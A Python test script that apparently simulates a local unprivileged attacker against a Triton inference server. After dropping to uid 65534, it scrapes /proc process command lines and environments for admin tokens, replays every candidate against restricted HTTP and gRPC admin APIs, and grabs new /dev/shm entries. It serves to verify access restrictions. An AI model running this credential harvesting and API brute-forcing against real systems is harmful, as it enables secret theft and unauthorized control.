"""Another local user attacking a running server: started as root, it imports what it needs, then drops
to uid/gid 65534 (the venv's interpreter lives under a 0700 home, so it cannot be started as that user)
and only then looks at the machine. Prints one JSON object.

    python attacker.py admin <http_url> <grpc_url> <model>   read /proc, try every restricted API
    python attacker.py shm                                  open every new /dev/shm entry until stdin closes
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import select
import sys
import urllib.error
import urllib.request
from typing import Any

import tritonclient.grpc as grpcclient
from tritonclient.utils import InferenceServerException

NOBODY = 65534
RULE_FLAGS = ("--http-restricted-api=", "--grpc-restricted-protocol=")
TOKEN_LIKE = re.compile(r"[0-9a-fA-F]{16,}|@@[A-Z0-9_]+@@")


def drop_privileges() -> None:
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    assert os.getuid() == os.geteuid() == NOBODY


def _read(path: str) -> bytes | None:
    try:
        with open(path, "rb") as handle:
            return handle.read()
    except OSError:
        return None


def harvest() -> tuple[set[str], set[str], list[int], list[str]]:
    """(header names, token candidates, pids whose environ was readable, restriction rules seen)."""
    headers, candidates, environ_readable, rules = {"pytriton-torch-admin-token"}, set(), [], []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        raw = _read(f"/proc/{entry}/cmdline")
        if not raw:
            continue
        texts = [arg.decode(errors="replace") for arg in raw.split(b"\0")]
        environ = _read(f"/proc/{entry}/environ")
        if environ:
            environ_readable.append(int(entry))
            texts += [item.decode(errors="replace") for item in environ.split(b"\0")]
        for text in texts:
            if text.startswith(RULE_FLAGS):
                rules.append(text)
                header = text.split(":", 1)[1] if ":" in text else ""
                if "=" in header:
                    key, value = header.split("=", 1)
                    headers.add(key)
                    candidates.add(value)
            candidates.update(TOKEN_LIKE.findall(text))
    return headers, candidates, environ_readable, rules


def _http(url: str, method: str, path: str, body: bytes | None, headers: dict[str, str]) -> int:
    request = urllib.request.Request(url + path, data=body, method=method, headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return int(response.status)
    except urllib.error.HTTPError as exc:
        return exc.code


def warm_up(http_url: str, client: grpcclient.InferenceServerClient) -> None:
    """Load every lazily imported module now: files under the 0700 home are unreadable after the drop."""
    assert _http(http_url, "GET", "/v2/health/live", None, {}) == 200
    assert client.is_server_live()
    with contextlib.suppress(InferenceServerException):
        client.get_log_settings()


def attack_admin(http_url: str, client: grpcclient.InferenceServerClient, model: str) -> dict[str, Any]:
    names, candidates, environ_readable, rules = harvest()
    attempts: list[dict[str, str]] = [{}]
    attempts += [{name: value} for name in sorted(names) for value in sorted(candidates)]
    http_calls = [
        ("POST", "/v2/repository/index", b"{}"),
        ("POST", f"/v2/repository/models/{model}/load", b"{}"),
        ("POST", "/v2/systemsharedmemory/region/r/register", b'{"key": "/r", "offset": 0, "byte_size": 8}'),
        ("GET", "/v2/systemsharedmemory/status", None),
        ("GET", "/v2/logging", None),
        ("POST", "/v2/logging", b'{"log_verbose_level": 1}'),
        ("GET", "/v2/trace/setting", None),
        ("POST", "/v2/trace/setting", b'{"trace_level": ["TIMESTAMPS"]}'),
        ("POST", f"/v2/repository/models/{model}/unload", b"{}"),
    ]
    grpc_calls = {
        "RepositoryIndex": lambda h: client.get_model_repository_index(headers=h),
        "RepositoryModelLoad": lambda h: client.load_model(model, headers=h),
        "SystemSharedMemoryRegister": lambda h: client.register_system_shared_memory("r", "/r", 8, headers=h),
        "SystemSharedMemoryStatus": lambda h: client.get_system_shared_memory_status(headers=h),
        "LogSettings": lambda h: client.get_log_settings(headers=h),
        "LogSettings(update)": lambda h: client.update_log_settings({"log_verbose_level": 1}, headers=h),
        "TraceSetting": lambda h: client.get_trace_settings(headers=h),
        "TraceSetting(update)": lambda h: client.update_trace_settings(settings={"trace_rate": "1"}, headers=h),
        "RepositoryModelUnload": lambda h: client.unload_model(model, headers=h),
    }
    allowed, tried = [], 0
    for headers in attempts:
        for method, path, body in http_calls:
            tried += 1
            code = _http(http_url, method, path, body, headers)
            if code != 403:
                allowed.append(f"HTTP {method} {path} {headers}: {code}")
        grpc_headers = {f"triton-grpc-protocol-{k}": v for k, v in headers.items()}
        for name, call in grpc_calls.items():
            tried += 1
            try:
                call(grpc_headers)
                allowed.append(f"gRPC {name} {headers}: OK")
            except InferenceServerException as exc:
                if "restricted" not in str(exc):
                    allowed.append(f"gRPC {name} {headers}: {exc}")
    return {
        "uid": os.getuid(),
        "rules": rules,
        "candidates": sorted(candidates),
        "environ_readable": environ_readable,
        "tried": tried,
        "allowed": allowed,
    }


def poll_shm() -> dict[str, Any]:
    """Open every new /dev/shm entry the moment it shows up, keeping what opens, until stdin closes."""
    seen: dict[str, int] = {}
    kept: list[int] = []
    print("READY", flush=True)
    while not select.select([sys.stdin], [], [], 0)[0]:
        for name in os.listdir("/dev/shm"):
            if name in seen:
                continue
            try:
                kept.append(os.open(f"/dev/shm/{name}", os.O_RDONLY))
                seen[name] = 0
            except OSError as exc:
                seen[name] = exc.errno or -1
    return {"uid": os.getuid(), "opened": seen}


def main() -> None:
    if sys.argv[1] == "admin":
        http_url, grpc_url, model = sys.argv[2:5]
        client = grpcclient.InferenceServerClient(grpc_url.removeprefix("grpc://"))
        warm_up(http_url, client)
        drop_privileges()
        result = attack_admin(http_url, client, model)
    else:
        drop_privileges()
        result = poll_shm()
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
